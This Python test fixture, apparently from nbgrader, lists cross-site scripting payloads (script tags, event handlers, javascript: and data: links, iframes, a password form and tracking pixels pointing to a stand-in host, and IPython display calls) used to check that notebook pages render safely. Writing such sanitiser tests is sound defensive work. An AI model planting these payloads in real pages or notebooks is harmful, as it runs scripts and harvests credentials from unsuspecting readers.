"""Prose and code that would run, or load something, in the page of whoever reads it."""

from __future__ import annotations

BAD = "https://bad.example"
PROSE = {
    "script": "<script>alert(1)</script>",
    "script in a sentence": "before <ScRiPt src=//bad.example/x.js></sCrIpT> after",
    "event handler": '<b onmouseover="alert(1)">bold</b>',
    "image with a handler": "<img src=x onerror=alert(1)>",
    "slash for a space": "<svg/onload=alert(1)>",
    "link": "[click](javascript:alert(1))",
    "link in disguise": "[click](\t&#106;avaScript&colon;alert(1))",
    "link by reference": "[click][1]\n\n[1]:\n  javascript:alert(1)",
    "link in angle brackets": "<javascript:alert(1)>",
    "page in a link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "path of the same server": "[click](../../logout)",
    "iframe": f"<iframe src={BAD}></iframe>",
    "embedded": f"<object data={BAD}></object><embed src={BAD}>",
    "form": f"<form action={BAD}><input name=password><button>Log in</button></form>",
    "style": f"<style>body {{ background: url({BAD}) }}</style>",
    "style sheet": f"<link rel=stylesheet href={BAD}><meta http-equiv=refresh content='0;{BAD}'>",
    "base": f"<base href={BAD}>",
    "end of the page": "</div></div></body></html><script>alert(1)</script>",
    "comment": "<!-- --><script>alert(1)</script><!--",
    "unfinished": "<img src=x onerror=alert(1)//",
    "remote image": f"![chart]({BAD}/pixel.png)",
    "remote image by reference": f"![chart][2]\n\n[2]: {BAD}/pixel.png",
    "image in a link": f"[![chart]({BAD}/pixel.png)](https://www.python.org)",
    "image in a table": f"| a | b |\n| --- | --- |\n| ![c]({BAD}/pixel.png) | <img src={BAD}> |",
    "diagram": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "math": "$$<img src=x onerror=alert(1)>$$ $x<svg/onload=alert(1)>$",
    "environment": "\\begin{a<img src=x onerror=alert(1)>}x\\end{a<img src=x onerror=alert(1)>}",
    "quotation": "> - # <img src=x\n> - onerror=alert(1)>\n\n<img src=x\nonerror=alert(1)>",
    "angle bracket made of link": f"<<{BAD}/onload=alert(1)>script>alert(1)</script>",
    "title": '[click](https://www.python.org "x\\" onclick=alert(1) y=\\"")',
    "quote in a link": '[click](https://www.python.org/"onclick="alert(1))',
}
# nbgrader's own pages already render these harmlessly; another reader may not.
ALREADY_SAFE = {
    "slash for a space", "unfinished", "math", "angle bracket made of link", "title",
    "quote in a link",
}  # fmt: skip

CODE = """
import IPython.display
print("</pre><script>alert(1)</script>")
for kind in (IPython.display.HTML, IPython.display.Javascript, IPython.display.Markdown):
    IPython.display.display(kind("<img src=x onerror=alert(1)>"))
IPython.display.display(IPython.display.SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='a'/>"))
IPython.display.display({"image/png": '"><script>alert(1)</script>'}, raw=True)
# </pre></div><script>alert(1)</script>
raise type("<script>alert(1)</script>", (Exception,), {})("<img src=x onerror=alert(1)>")
"""
MAGIC = "%%html\n<script>alert(1)</script>"
